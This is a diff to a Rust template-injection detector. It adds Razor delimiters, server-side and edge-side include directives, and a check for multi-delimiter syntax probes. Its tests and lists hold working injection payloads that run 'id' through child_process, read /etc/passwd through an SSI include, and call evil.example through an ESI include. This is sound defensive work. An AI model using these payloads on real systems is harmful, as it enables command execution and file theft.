@@ -5,8 +5,9 @@
 //!
 //! ```text
 //! injection := open expression close | directive
-//! open      := "{{" | "${" | "#{" | "*{" | "@{" | "<%=" | "<%" | "{%" | "[[" | "$!{"
-//! close     := "}}" | "}" | "%>" | "%]" | "]]"              (within 512 bytes)
+//! open      := "{{" | "${" | "#{" | "*{" | "@{" | "<%=" | "<%" | "{%" | "[[" | "[="
+//!            | "@("                                          (Razor)
+//! close     := "}}" | "}" | "%>" | "%}" | "]]" | "]" | ")"  (within 512 bytes)
 //! directive := "<#assign" | "<#import" | "#set(" | "#foreach(" | "{php}" | "{system("
 //!            | "{{#with" | "{{#each" ...
 //! ```
@@ -23,13 +24,19 @@
 //!   `Execute"?new`, `_self.env`, `registerUndefinedFilterCallback`, `File.open`,
 //!   `IO.popen`, `|attr(`), or a call of `exec`, `popen`, `system`, `eval`.
 //!
+//! A **syntax probe** is an attack too: three or more different opening delimiters
+//! within 12 bytes, only punctuation between them (`${{<%[%'"}}%\.`), the string that tells which engine, if any,
+//! evaluates input.
+//!
 //! Freemarker, Velocity, Smarty and Handlebars directives that create objects or
-//! iterate over helpers are attacks wherever they appear in a value.
+//! iterate over helpers are attacks wherever they appear in a value, and so are
+//! server-side includes (`<!--#exec cmd=...-->`, `<!--#include virtual=...-->`) and
+//! edge-side includes (`<esi:include src=...>`): the server runs them.
 //!
 //! Linear: each opening delimiter is looked at once and its expression read up to a
 //! bounded length.
 
-use crate::text::Words;
+use crate::text::{Words, is_space};
 use crate::{Class, Finding};
 use std::sync::LazyLock;
 
@@ -44,6 +51,7 @@ pub(crate) const OPENS: &[(&str, &str)] = &[
     ("{%", "%}"),
     ("[[", "]]"),
     ("[=", "]"),
+    ("@(", ")"),
 ];
 
 /// Words in an expression that lead from a template to the runtime.
@@ -100,6 +108,8 @@ const REACH: &[&str] = &[
     "subprocess",
     "getruntime",
     "classloader",
+    "getresource",
+    "class.get",
     "scriptengine",
     "@java.",
     "#_memberaccess",
@@ -137,6 +147,16 @@ pub(crate) const DIRECTIVES: &[&str] = &[
     "{{this.push",
     "{{this.pop",
     "{{#blockhelpermissing",
+    // Server-side and edge-side includes: the web server runs them.
+    "<!--#exec",
+    "<!--#include",
+    "<!--#echo",
+    "<!--#config",
+    "<!--#set",
+    "<!--#printenv",
+    "<esi:include",
+    "<esi:vars",
+    "<esi:eval",
 ];
 
 /// The longest expression read between delimiters.
@@ -161,6 +181,13 @@ pub fn scan(input: &[u8]) -> Option<Finding> {
     static DIRECTIVE_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(DIRECTIVES));
     if let Some((_, at, end)) = DIRECTIVE_WORDS.find_all(input).next() {
         return Some(Finding::new(Class::Template, "template directive", at..end));
+    }
+    if let Some(at) = syntax_probe(input) {
+        return Some(Finding::new(
+            Class::Template,
+            "template syntax probe",
+            at..(at + 12).min(input.len()),
+        ));
     }
     let mut i = 0;
     while i + 1 < input.len() {
@@ -200,6 +227,38 @@ pub fn scan(input: &[u8]) -> Option<Finding> {
             }
         }
         i = start;
+    }
+    None
+}
+
+/// Opening delimiters a syntax probe strings together.
+const PROBE_OPENS: &[&str] = &["${", "{{", "<%", "[%", "#{", "{%", "*{", "@{", "@(", "[["];
+
+/// Where three or more different opening delimiters start within 12 bytes, with
+/// nothing but punctuation between them.
+fn syntax_probe(input: &[u8]) -> Option<usize> {
+    static PROBE_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(PROBE_OPENS));
+    // The last start of each delimiter kind; a window holds three kinds when the
+    // third-latest of them is within 12 bytes of the current one.
+    // Only punctuation may stand between them: `{% if x %}${{ y }}` is a template.
+    let mut last = [usize::MAX; PROBE_OPENS.len()];
+    let (mut run_start, mut scanned) = (0, 0);
+    for (w, at, _) in PROBE_WORDS.find_all(input) {
+        // Each byte is looked at once: `scanned` only moves forward.
+        if at > scanned {
+            if let Some(p) = input[scanned..at]
+                .iter()
+                .rposition(|c| c.is_ascii_alphanumeric() || is_space(*c))
+            {
+                run_start = scanned + p + 1;
+            }
+            scanned = at;
+        }
+        last[w] = at;
+        let near = || last.iter().copied().filter(|&p| p != usize::MAX && p >= run_start && at - p < 12);
+        if near().count() >= 3 {
+            return near().min();
+        }
     }
     None
 }
@@ -282,6 +341,12 @@ mod tests {
             "{php}echo `id`;{/php}",
             "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
             "#{T(java.lang.System).getenv()}",
+            "<!--#exec cmd=\"ls\" -->",
+            "@(1+2)",
+            "${{<%[%'\"}}%\\.",
+            "${class.getResource(\"\").getPath()}",
+            "<!--#include virtual=\"/etc/passwd\" -->",
+            "<esi:include src=\"http://evil.example/\"/>",
         ] {
             assert!(hit(s), "missed: {s}");
         }
@@ -302,6 +367,11 @@ mod tests {
             "Use {{ 'Hello' | upper }} in Jinja",
             "The array [[1, 2], [3, 4]] is a matrix",
             "set(x) then foreach(y)",
+            "email me @(home) or at work",
+            "deploy: ${{ secrets.TOKEN }}",
+            "{% if x %}${{ y }}{% endif %}",
+            "<div class=\"{{ el.classList }}\">",
+            "score @(12 points)",
         ] {
             assert!(!hit(s), "false positive: {s}: {:?}", scan(s.as_bytes()));
         }
